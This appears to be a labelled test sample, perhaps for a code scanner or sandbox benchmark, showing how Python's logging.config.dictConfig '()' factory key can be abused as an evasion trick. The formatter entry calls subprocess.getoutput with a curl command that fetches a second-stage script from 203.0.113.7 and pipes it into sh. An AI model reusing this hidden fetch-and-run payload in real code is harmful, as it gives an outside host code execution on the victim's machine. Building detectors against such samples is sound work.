# evasion: logging.config.dictConfig calls a "()" factory named by a string
# grade: very hard; does: shell
import logging.config

logging.config.dictConfig({
    "version": 1,
    "formatters": {
        "plain": {
            "()": "subprocess.getoutput",
            "cmd": "curl -s http://203.0.113.7/stage2 | sh",
        },
    },
})
